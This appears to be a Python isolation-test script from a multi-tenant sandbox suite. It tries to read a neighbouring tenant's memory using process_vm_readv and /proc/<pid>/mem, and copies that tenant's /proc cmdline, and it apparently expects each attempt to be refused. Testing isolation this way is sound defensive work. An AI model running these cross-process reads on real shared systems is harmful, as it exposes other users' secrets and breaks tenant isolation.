# Reads another tenant's memory and arguments.
# severity: critical
# escape: secret
# neighbour: yes
import ctypes
import os
import struct

from raw import A, call, refusable, show, steal, tried

with refusable("process_vm_readv"):
    room = ctypes.create_string_buffer(64)
    ours = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(room), 40))
    theirs = ctypes.create_string_buffer(struct.pack("QQ", int(A.neighbour_address), 34))
    call("process_vm_readv", int(A.neighbour), ours, 1, theirs, 1, 0)
    show(room.raw)
with refusable("mem"):
    show(os.pread(os.open(f"/proc/{A.neighbour}/mem", os.O_RDONLY), 34, int(A.neighbour_address)))
steal(f"/proc/{A.neighbour}/cmdline")
tried()
